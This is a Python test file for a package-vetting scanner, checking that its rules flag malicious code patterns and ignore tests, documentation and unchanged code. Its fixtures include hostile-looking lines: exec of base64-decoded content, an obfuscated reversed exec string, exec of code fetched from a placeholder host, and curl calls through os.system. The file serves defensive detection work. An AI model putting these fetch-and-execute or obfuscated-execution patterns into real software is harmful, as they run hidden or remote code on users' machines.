"""C1 to C14 and H6: what code does."""

import pytest

from tests.vetting.domain.signals.code import (
    cases,
    commands,
    dropped,
    dropped_javascript,
    fed,
    fetches,
    installers,
    passed,
    ruins,
    thefts,
)
from tests.vetting.domain.signals.code.cases import Case
from tests.vetting.domain.signals.code.judging import BY_ID, half_tried, judge
from tests.vetting.domain.signals.looking import found
from vetting.domain.signals.code import RULES

TABLES = (cases, commands, dropped, dropped_javascript, thefts, fetches, installers, fed, passed, ruins)
CASES = sum((one.CASES for one in TABLES), start=tuple[Case, ...]())


@pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.rule}-{case.kind}")
def test_a_rule_sees_what_is_meant_and_nothing_that_only_looks_alike(case: Case) -> None:
    """Each case of the table has the worst severity that stands beside it."""
    judge(case)


def test_every_rule_is_tried_with_a_hit_a_twin_and_two_evasions() -> None:
    """No rule goes without: one that never fires is never missed."""
    assert half_tried(CASES, BY_ID) == []


@pytest.mark.parametrize("case", [case for case in CASES if case.kind != "twin"], ids=lambda case: case.rule)
def test_what_stood_there_before_is_context(case: Case) -> None:
    """The same code in the compared release, further down, does not count."""
    source = case.source.encode()
    scopes = {one.scope.value for one in found(BY_ID[case.rule], case.path, b"\n" + source, source)}
    expected = {"context"} if not case.source.startswith("# coding") else scopes
    assert scopes == expected


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_tests_and_documents_are_no_code(rule: object) -> None:
    """What a test does, nobody who installs the project runs."""
    everything = "".join(case.source for case in CASES if case.kind == "hit").encode()
    for path in ("tests/test_demo.py", "docs/conf.py", "demo/__init__.pyi"):
        assert found(rule, path, everything) == []  # type: ignore[arg-type]  # RULES of several classes


def test_a_file_that_is_no_code_says_nothing() -> None:
    """Prose with code in it is prose."""
    assert [one for rule in RULES for one in found(rule, "README.md", b"exec(base64.b64decode('eA=='))")] == []


def test_what_comes_from_among_the_tests_is_new() -> None:
    """There it was not looked at: a payload must not come in as a test and be moved to where it runs."""
    source = b"import base64\nexec(base64.b64decode(open('x').read()))\n"
    findings = found(BY_ID["C1"], "demo/work.py", source, source, old_path="tests/work.py")
    assert [one.scope.value for one in findings] == ["delta"]


@pytest.mark.parametrize(
    ("rule", "source"),
    [
        ("C1", "import base64\nexec(base64.b64decode(open('%s').read()))\n"),
        ("C1", "exec(open('%s').read())\n"),
        ("C2", "exec(('#' * 900 + '\\n%s').replace('z', 'y')[::-1])\n"),
        ("C3", "import requests\nurl = 'https://%s.example.test/'\nexec(requests.get(url).text)\n"),
    ],
)
def test_another_address_or_file_makes_it_another_sighting(rule: str, source: str) -> None:
    """What was harmless because of where it came from is not so from everywhere."""
    findings = found(BY_ID[rule], "demo/work.py", (source % "new").encode(), (source % "old").encode())
    assert {one.scope.value for one in findings} == {"delta"}


def test_a_host_in_a_shell_s_line_is_told_once() -> None:
    """The line is a text of the file's, and what is read within it is one too; another line names it again."""
    source = b'import os, requests\nos.system("curl https://x.example.invalid/a")\nrequests.get("https://x.example.invalid/b")\n'
    assert [(one.line, one.column) for one in found(BY_ID["C10"], "a.py", source)] == [(2, 11), (3, 14)]
    odd = b'import os\nos.system("curl https://x.example.top/a https://y.example.top/b")\n'
    assert [one.message for one in found(BY_ID["C10"], "a.py", odd)] == [
        f"It names https://{host}.example.top/{path}: the address ends as those do that cost nothing and last for days."
        for host, path in (("x", "a"), ("y", "b"))
    ]
